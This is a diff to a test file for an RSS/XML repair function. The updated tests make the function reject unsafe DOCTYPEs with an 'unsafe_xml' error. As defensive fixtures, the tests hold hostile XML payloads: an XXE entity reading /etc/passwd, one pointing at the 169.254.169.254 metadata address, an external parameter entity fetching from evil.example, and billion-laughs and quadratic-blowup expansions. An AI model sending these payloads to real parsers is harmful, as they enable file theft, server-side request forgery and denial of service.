@@ -43,8 +43,6 @@ describe("repairXml", () => {
     { name: "RSS item dates are renamed", input: rss("<item><pubDate>p</pubDate><dc:date>d</dc:date></item>"), want: rss("<item><nf:pubDate>p</nf:pubDate><nf:dcdate>d</nf:dcdate></item>") },
     { name: "xml:base is injected into channel and items", input: `<rss xml:base="http://x/a/"><channel><item xml:base="b/"><title>t</title></item></channel></rss>`, want: `<rss xml:base="http://x/a/"><channel><nf:base>http://x/a/</nf:base><item xml:base="b/"><nf:base>http://x/a/b/</nf:base><title>t</title></item></channel></rss>` },
     { name: "an internal entity is expanded", input: `<!DOCTYPE rss [<!ENTITY id "tag:x,">]><rss><channel><item><guid>&id;1</guid></item></channel></rss>`, want: `<rss nf=""><channel><item><guid>tag:x,1</guid></item></channel></rss>` },
-    { name: "an external entity is never read", input: `<!DOCTYPE rss [<!ENTITY x SYSTEM "file:///etc/passwd">]><rss><channel><title>&x;</title></channel></rss>`, want: `<rss nf=""><channel><title>&amp;x;</title></channel></rss>` },
-    { name: "nested entities are not expanded (billion laughs)", input: `<!DOCTYPE r [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;">]><rss><channel><title>&b;&a;</title></channel></rss>`, want: `<rss nf=""><channel><title>&amp;b;ha</title></channel></rss>` },
   ])("$name", ({ input, want }) => {
     expect(xmlOf(input)).toBe(want);
   });
@@ -55,11 +53,30 @@ describe("repairXml", () => {
     expect(repairXml("").root).toBeNull();
   });
 
-  it("caps entity expansion", () => {
+  it("refuses expansion past 1,000,000 characters (the quadratic blowup) as unsafe_xml", () => {
     const big = "x".repeat(4000);
-    const { xml } = repairXml(`<!DOCTYPE r [<!ENTITY e "${big}">]><rss><channel><title>${"&e;".repeat(1000)}</title></channel></rss>`);
-    expect(xml.length).toBeLessThan(1_100_000);
-    expect(xml).toContain("&amp;e;");
+    const doc = (refs: number) => `<!DOCTYPE r [<!ENTITY e "${big}">]><rss><channel><title>${"&e;".repeat(refs)}</title></channel></rss>`;
+    expect(repairXml(doc(250)).xml.length).toBeGreaterThan(1_000_000);
+    expect(() => repairXml(doc(251))).toThrow(expect.objectContaining({ code: "unsafe_xml", message: expect.stringMatching(/entity expansion over 1,000,000/) }));
+  });
+
+  it.each([
+    { name: "an external entity (XXE)", subset: `<!ENTITY x SYSTEM "file:///etc/passwd">`, why: /external entity \(x SYSTEM\)/ },
+    { name: "a public external entity", subset: `<!ENTITY x PUBLIC "-//X//Y" "http://169.254.169.254/">`, why: /external entity \(x PUBLIC\)/ },
+    { name: "an external parameter entity", subset: `<!ENTITY % p SYSTEM "http://evil.example/x.dtd"> %p;`, why: /external parameter entity \(%p SYSTEM\)/ },
+    { name: "an entity naming another (billion laughs)", subset: `<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;">`, why: /b uses &a;/ },
+    { name: "a parameter entity naming another", subset: `<!ENTITY % a "ha"><!ENTITY % b "%a;%a;">`, why: /b uses %a;/ },
+  ])("refuses a DOCTYPE that declares $name as unsafe_xml", ({ subset, why }) => {
+    const doc = `<!DOCTYPE rss [${subset}]><rss><channel><title>t</title></channel></rss>`;
+    expect(() => repairXml(doc)).toThrow(expect.objectContaining({ code: "unsafe_xml", message: expect.stringMatching(why) }));
+  });
+
+  it.each([
+    { name: "an external DTD (RSS 0.91)", doctype: `<!DOCTYPE rss PUBLIC "-//Netscape Communications//DTD RSS 0.91//EN" "http://my.netscape.com/publish/formats/rss-0.91.dtd">` },
+    { name: "the W3C's XHTML entity sets", doctype: `<!DOCTYPE rss [<!ENTITY % HTMLlat1 PUBLIC "-//W3C//ENTITIES Latin 1 for XHTML//EN" "http://www.w3.org/TR/xhtml1/DTD/xhtml-lat1.ent"> %HTMLlat1;]>` },
+    { name: "character references in an entity", doctype: `<!DOCTYPE rss [<!ENTITY c "&#169;&#x2014;">]>` },
+  ])("accepts $name, and fetches nothing", ({ doctype }) => {
+    expect(repairXml(`${doctype}<rss><channel><title>t&nbsp;</title></channel></rss>`).xml).toBe(`<rss nf=""><channel><title>t&#160;</title></channel></rss>`);
   });
 
   it("refuses nesting deeper than MAX_DEPTH outside text elements", () => {
